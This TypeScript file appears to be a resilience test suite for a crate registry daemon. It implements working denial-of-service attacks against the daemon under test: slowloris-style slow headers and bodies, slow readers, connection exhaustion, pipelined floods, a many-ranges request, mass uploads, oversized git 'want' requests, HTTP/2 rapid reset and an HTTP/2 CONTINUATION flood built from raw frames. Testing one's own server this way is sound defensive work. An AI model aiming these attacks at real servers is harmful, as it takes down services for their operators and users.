import { connect as connectHttp2 } from 'node:http2'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { connect as connectTls } from 'node:tls'
import type { Random } from '../../support/random.ts'
import { encodePublish, plainMetadata } from '../../support/release.ts'

/** The target of an attack, and its duration. */
export interface Aim {
  readonly url: string
  /** The same daemon's kind with TLS and HTTP/2. */
  readonly secureUrl: string
  readonly token: string
  readonly random: Random
  readonly milliseconds: number
  /** The path of a `.crate` of some MiB. */
  readonly largeCrate: string
}

/** An attack; returns a description of its actions. */
export type Attack = (aim: Aim) => Promise<string>

/** Opens connections that count as attackers: they may fail in any way. */
async function sockets(url: string, count: number): Promise<Socket[]> {
  const { hostname, port } = new URL(url)
  const open: Socket[] = []
  for (let at = 0; at < count; at++) {
    const socket = connect(Number(port), hostname)
    socket.on('error', () => {})
    open.push(socket)
    // The backlog is not under test.
    if (at % 50 === 49) await sleep(5)
  }
  await sleep(100)
  return open
}

async function drip(aim: Aim, count: number, head: string, piece: () => string | Buffer) {
  const open = await sockets(aim.url, count)
  for (const socket of open) socket.write(head)
  for (const end = performance.now() + aim.milliseconds; performance.now() < end; await sleep(100))
    for (const socket of open) if (!socket.destroyed) socket.write(piece())
  for (const socket of open) socket.destroy()
  return `${count} connections`
}

/** Every attack by its name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'slow headers': aim => drip(aim, 300, 'GET / HTTP/1.1\r\nhost: x\r\n', () => 'a: b\r\n'),
  'slow bodies': aim =>
    drip(
      aim,
      200,
      `PUT /api/v1/crates/new HTTP/1.1\r\nhost: x\r\nauthorization: ${aim.token}\r\ncontent-length: 5000000\r\n\r\n`,
      () => Buffer.alloc(1000),
    ),
  'slow readers': async aim => {
    const open = await sockets(aim.url, 100)
    for (const socket of open) {
      socket.pause()
      socket.write(`GET ${aim.largeCrate} HTTP/1.1\r\nhost: x\r\n\r\n`)
    }
    await sleep(aim.milliseconds)
    for (const socket of open) socket.destroy()
    return `${open.length} connections, 5 MB each`
  },
  '5,000 idle connections': async aim => {
    const open = await sockets(aim.url, 5000)
    await sleep(aim.milliseconds)
    const alive = open.filter(socket => !socket.destroyed).length
    for (const socket of open) socket.destroy()
    return `${alive} of 5000 stay open`
  },
  flood: aim => pipeline(aim, 64, 'GET /crates/nobody/has/this HTTP/1.1\r\nhost: x\r\n\r\n'),
  'ranges by the thousand': aim => {
    const ranges = Array.from({ length: 1000 }, (_, at) => `${at * 3}-${at * 3}`).join()
    const request = `GET ${aim.largeCrate} HTTP/1.1\r\nhost: x\r\nrange: bytes=${ranges}\r\n\r\n`
    return pipeline(aim, 16, request)
  },
  'uploads of 10 MB, 100 at once': async aim => {
    const crate = aim.random.bytes(10_000_000)
    const uploads = Array.from({ length: 100 }, async (_, at) => {
      const body = encodePublish(plainMetadata(`upload-${at}`, '1.0.0'), crate)
      const answer = await fetch(`${aim.url}/api/v1/crates/new`, {
        method: 'PUT',
        headers: { authorization: aim.token },
        body: new Uint8Array(body),
      }).catch(() => null)
      return (await answer?.text())?.includes('errors') ?? false
    })
    const refused = (await Promise.all(uploads)).filter(isRefused => isRefused)
    return `${refused.length} refused: no archives`
  },
  'git wants': async aim => {
    const want = (id: string) => `0032want ${id}\n`
    const id = () => aim.random.bytes(20).toString('hex')
    let asked = 0
    await repeat(aim, 16, async () => {
      const body = `${Array.from({ length: 2000 }, () => want(id())).join('')}00000009done\n`
      const answer = await fetch(`${aim.url}/index.git/git-upload-pack`, {
        method: 'POST',
        headers: { 'content-type': 'application/x-git-upload-pack-request' },
        body,
      }).catch(() => null)
      await answer?.arrayBuffer().catch(() => null)
      asked++
    })
    return `${asked} requests of 2,000 wants`
  },
  'HTTP/2 resets': async aim => {
    let streams = 0
    await repeat(aim, 4, async () => {
      const session = connectHttp2(aim.secureUrl, { rejectUnauthorized: false })
      session.on('error', () => {})
      for (let at = 0; at < 2000 && !session.closed && !session.destroyed; at++) {
        const stream = session.request({ ':path': '/' })
        stream.on('error', () => {})
        stream.close(8)
        streams++
        if (at % 100 === 99) await sleep(1)
      }
      session.destroy()
    })
    return `${streams} streams`
  },
  'HTTP/2 CONTINUATION': async aim => {
    const { hostname: host, port } = new URL(aim.secureUrl)
    const options = { host, port: Number(port), rejectUnauthorized: false, ALPNProtocols: ['h2'] }
    let frames = 0
    await repeat(aim, 4, async isOver => {
      const socket = connectTls(options)
      socket.on('error', () => {})
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
      socket.write(frame(4, 0, 0, Buffer.alloc(0)))
      // A header block that never ends.
      socket.write(frame(1, 0, 1, Buffer.from([0x82])))
      for (let at = 0; at < 2000 && !socket.destroyed && !isOver(); at++) {
        socket.write(frame(9, 0, 1, Buffer.from(`\0\x01a\x7f\x00${'b'.repeat(127)}`, 'latin1')))
        frames++
        if (at % 50 === 49) await sleep(1)
      }
      socket.destroy()
    })
    return `${frames} frames`
  },
}

/** Has clients do the same again and again until the attack is over. */
async function repeat(
  { milliseconds }: Aim,
  clients: number,
  work: (isOver: () => boolean) => Promise<void>,
): Promise<void> {
  const end = performance.now() + milliseconds
  const isOver = () => performance.now() >= end
  const client = async () => {
    while (!isOver()) await work(isOver)
  }
  await Promise.all(Array.from({ length: clients }, client))
}

/** Sends the same request again and again on many connections, and reads the answers. */
async function pipeline(aim: Aim, count: number, request: string): Promise<string> {
  const open = await sockets(aim.url, count)
  let answers = 0
  for (const socket of open) {
    socket.on('data', chunk => {
      for (let at = chunk.indexOf('HTTP/1.1 '); at >= 0; at = chunk.indexOf('HTTP/1.1 ', at + 1)) {
        answers++
        if (!socket.destroyed) socket.write(request)
      }
    })
    socket.write(request)
  }
  await sleep(aim.milliseconds)
  for (const socket of open) socket.destroy()
  return `${answers} answers on ${count} connections`
}

/** A frame of HTTP/2 (RFC 9113 §4.1). */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}
